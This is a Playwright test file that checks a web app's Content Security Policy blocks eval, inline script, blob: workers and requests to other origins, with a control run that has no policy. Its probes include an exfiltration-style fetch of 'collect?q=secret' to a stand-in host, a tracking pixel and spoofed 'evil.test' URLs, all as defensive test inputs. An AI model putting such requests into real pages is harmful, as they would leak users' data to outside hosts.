import type { Browser, Page } from '@playwright/test'
import { APP_CSP, renderCsp } from '../scripts/vite-csp'
import { expect, matches, runStatus, setEvents, setQuery, test } from './fixtures'
import { offOriginIssue, recordViolations, violations, watchPage } from './page-watch'

/**
 * The built app's Content Security Policy (scripts/vite-csp.ts, docs/security.md): the page
 * carries it, works under it, and it refuses inline script, eval, blob: workers and requests to
 * other origins. Every other journey run against the build proves the policy holds for what it
 * does: the fixtures' guard fails a test on any console error, and Chromium reports each CSP
 * refusal as one.
 *
 * The refusal tests strip the server's CSP header from the page, so the <meta> tag alone is what
 * refuses (as on a static host that sends no headers), and run the same probes once more with the
 * meta tag removed too: the probes must succeed there, or they prove nothing.
 */

test.skip(!!process.env.E2E_DEV, 'the policy is added to the production build only (the dev server needs inline scripts for React refresh); run against a build, e.g. E2E_DIST=/tmp/build-x')

/** Another origin: nothing listens there, and a route aborts anything that gets that far. */
const ELSEWHERE = 'http://elsewhere.invalid'

/**
 * A fresh page of the app. `meta`: the document's CSP header is stripped, so only the built
 * page's <meta> policy applies. `none`: the meta tag is removed too (the control). Requests that
 * reach the network layer for another origin are aborted and listed in `reached`.
 */
async function openApp(browser: Browser, baseURL: string, policy: 'meta' | 'none') {
  const context = await browser.newContext({ baseURL })
  await recordViolations(context)
  const origin = new URL(baseURL).origin
  const reached: string[] = []
  await context.route(
    (url) => url.origin !== origin,
    async (route) => {
      reached.push(route.request().url())
      await route.abort()
    },
  )
  await context.route(`${origin}/`, async (route) => {
    const response = await route.fetch()
    const headers = { ...response.headers() }
    delete headers['content-security-policy']
    let body = await response.text()
    if (policy === 'none') body = body.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '')
    await route.fulfill({ response, headers, body })
  })
  const page = await context.newPage()
  const issues = watchPage(page, origin)
  await page.goto('/')
  await expect(runStatus(page)).toHaveAttribute('data-run-status', 'idle')
  return { context, page, reached, issues }
}

/** What each probe did: code from strings, inline script, a blob: worker, off-origin loads. */
async function probe(page: Page) {
  // Code Playwright evaluates is exempt from the policy, and so is a direct eval inside it (tried:
  // it runs); an indirect eval, new Function and a string timer are checked like any page
  // script's (the control test shows each runs without the policy).
  const code = await page.evaluate(async () => {
    const tryIt = (f: () => unknown) => {
      try {
        return String(f())
      } catch (e) {
        return (e as Error).name
      }
    }
    const timer = await new Promise<string>((resolve) => {
      const w = window as unknown as { __timerRan?: boolean }
      // timers of equal delay run in order: the second sees whether the first ran
      setTimeout('window.__timerRan = true' as unknown as () => void, 0)
      setTimeout(() => resolve(w.__timerRan === true ? 'ran' : 'refused'), 0)
    })
    return { eval: tryIt(() => (0, eval)('6 * 7')), function: tryIt(() => new Function('return 6 * 7')()), timer }
  })
  // An inline <script> element is checked like one in the HTML (Playwright may report the refusal).
  await page.addScriptTag({ content: 'window.__inlineRan = true' }).catch(() => undefined)
  const inline = await page.evaluate(() => (window as unknown as { __inlineRan?: boolean }).__inlineRan === true)
  // Chromium checks a worker's script when it fetches it: a refused one fires `error`, not a throw.
  const worker = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        const w = new Worker(URL.createObjectURL(new Blob(['postMessage("ran")'], { type: 'text/javascript' })))
        w.onmessage = (e) => resolve(String(e.data))
        w.onerror = () => resolve('refused')
      }),
  )
  const fetched = await page.evaluate((url) => fetch(url).then(() => 'loaded', (e: Error) => e.name), `${ELSEWHERE}/collect?q=secret`)
  const image = await page.evaluate(
    (url) =>
      new Promise<string>((resolve) => {
        const img = new Image()
        img.onload = () => resolve('loaded')
        img.onerror = () => resolve('failed')
        img.src = url
      }),
    `${ELSEWHERE}/pixel.png`,
  )
  return { ...code, inline, worker, fetched, image }
}

test('the built page carries the policy first in <head>, with the referrer rule; the server adds the header-only parts', async ({ page }) => {
  const response = await page.goto('/')
  await expect(runStatus(page)).toHaveAttribute('data-run-status', 'idle')
  const head = await page.evaluate(() =>
    [...document.head.children].slice(0, 2).map((e) => ({ equiv: e.getAttribute('http-equiv'), name: e.getAttribute('name'), content: e.getAttribute('content') })),
  )
  expect(head).toEqual([
    { equiv: 'Content-Security-Policy', name: null, content: renderCsp(APP_CSP) },
    { equiv: null, name: 'referrer', content: 'no-referrer' },
  ])
  // the page still decodes as UTF-8 with the two tags put before its charset declaration
  expect(await page.evaluate(() => document.characterSet)).toBe('UTF-8')
  const header = response?.headers()['content-security-policy'] ?? ''
  expect(header).toContain(renderCsp(APP_CSP))
  expect(header).toContain("frame-ancestors 'none'")
})

test('the app works under the policy: coloured editor, Monaco and matcher workers, a query run, a file load', async ({ page }) => {
  await page.goto('/')
  await expect(runStatus(page)).toHaveAttribute('data-run-status', 'idle')
  await setEvents(page, [
    { '@timestamp': '2026-11-02T09:14:00Z', event: { category: 'process' }, process: { name: 'sh' } },
    { '@timestamp': '2026-11-02T09:14:01Z', event: { category: 'process' }, process: { name: 'curl' } },
  ])
  await setQuery(page, 'process where process.name == "sh"')
  await expect(page.getByTestId('match-count')).toHaveText(/^1 match(es)? of 2 events/)
  await expect(matches(page)).toHaveCount(1)
  // Monaco's token colours come from a <style> it writes at run time: a keyword and a string in
  // different colours prove the policy lets it apply.
  const tokenColours = () =>
    page.evaluate(() => {
      const spans = document.querySelectorAll('[aria-label="Rule query"]')[0]?.closest('.monaco-editor')?.querySelectorAll('.view-lines span span') ?? []
      return new Set([...spans].map((s) => getComputedStyle(s).color)).size
    })
  await expect.poll(tokenColours).toBeGreaterThan(1)
  // the workers, each from the app's own files
  await expect
    .poll(() => page.workers().map((w) => new URL(w.url()).pathname.replace(/-[\w-]+\.js$/, '.js')).sort())
    .toEqual(expect.arrayContaining(['/assets/editor.worker.js', '/assets/engine.worker.js']))
  // a file the user picks streams into the matcher worker
  const ndjson = ['sh', 'sh', 'curl'].map((name, i) => JSON.stringify({ '@timestamp': `2026-11-02T09:15:0${i}Z`, event: { category: 'process' }, process: { name } })).join('\n')
  await page.getByLabel('Upload events').setInputFiles({ name: 'picked.ndjson', mimeType: 'application/x-ndjson', buffer: Buffer.from(ndjson) })
  await expect(page.getByTestId('events-info')).toHaveText(/^3 events from picked\.ndjson/)
  await expect(page.getByTestId('match-count')).toHaveText(/^2 matches of 3 events/)
})

test('the <meta> policy alone refuses eval, inline script, blob: workers and requests to other origins', async ({ browser, baseURL }) => {
  const { context, page, reached, issues } = await openApp(browser, baseURL ?? '', 'meta')
  try {
    const seen = await probe(page)
    expect(seen).toEqual({ eval: 'EvalError', function: 'EvalError', timer: 'refused', inline: false, worker: 'refused', fetched: 'TypeError', image: 'failed' })
    // refused in the page: nothing reached the network
    expect(reached).toEqual([])
    const directives = (await violations(page)).map((v) => v.directive)
    expect(new Set(directives)).toEqual(new Set(['script-src', 'script-src-elem', 'worker-src', 'connect-src', 'img-src']))
    expect(await violations(page)).toEqual(
      expect.arrayContaining([
        { directive: 'connect-src', blockedURI: `${ELSEWHERE}/collect?q=secret` },
        { directive: 'img-src', blockedURI: `${ELSEWHERE}/pixel.png` },
      ]),
    )
    // the guard's watcher sees each refusal as a console error
    expect(issues.filter((i) => /Content Security Policy/.test(i)).length).toBeGreaterThanOrEqual(6)
  } finally {
    await context.close()
  }
})

test('control: without the policy the same probes run code and reach the network, and the guard flags them', async ({ browser, baseURL }) => {
  const { context, page, reached, issues } = await openApp(browser, baseURL ?? '', 'none')
  try {
    const seen = await probe(page)
    expect(seen).toEqual({ eval: '42', function: '42', timer: 'ran', inline: true, worker: 'ran', fetched: 'TypeError', image: 'failed' })
    expect(await violations(page)).toEqual([])
    expect(reached).toEqual([`${ELSEWHERE}/collect?q=secret`, `${ELSEWHERE}/pixel.png`])
    expect(issues).toEqual(expect.arrayContaining([`off-origin request: ${ELSEWHERE}/collect?q=secret`, `off-origin request: ${ELSEWHERE}/pixel.png`]))
  } finally {
    await context.close()
  }
})

test('the off-origin rule: the page and data:/blob: stay home, anything else is flagged', () => {
  const origin = 'http://127.0.0.1:4173'
  expect(offOriginIssue(`${origin}/assets/index.js`, origin)).toBeNull()
  expect(offOriginIssue(origin, origin)).toBeNull()
  expect(offOriginIssue('data:,', origin)).toBeNull()
  expect(offOriginIssue(`blob:${origin}/5f0c`, origin)).toBeNull()
  expect(offOriginIssue('http://127.0.0.1:4174/x', origin)).toBe('off-origin request: http://127.0.0.1:4174/x')
  expect(offOriginIssue('http://127.0.0.1:41730/x', origin)).toBe('off-origin request: http://127.0.0.1:41730/x')
  expect(offOriginIssue('http://127.0.0.1:4173@evil.test/x', origin)).toBe('off-origin request: http://127.0.0.1:4173@evil.test/x')
  expect(offOriginIssue('http://evil.test/?from=http://127.0.0.1:4173/', origin)).toBe('off-origin request: http://evil.test/?from=http://127.0.0.1:4173/')
  expect(offOriginIssue('https://127.0.0.1:4173/x', origin)).toBe('off-origin request: https://127.0.0.1:4173/x')
})

test('the fixtures guard fails a journey that requests another origin', async ({ page, context }) => {
  // Expected to fail: the guard's verdict at teardown is the failure. If the guard missed the
  // request, this test would pass and Playwright would report it as an unexpected pass.
  test.fail()
  await context.route(`${ELSEWHERE}/**`, (route) => route.abort())
  await page.goto('/')
  await expect(runStatus(page)).toHaveAttribute('data-run-status', 'idle')
  await page.evaluate((url) => fetch(url).catch(() => undefined), `${ELSEWHERE}/leak`)
})
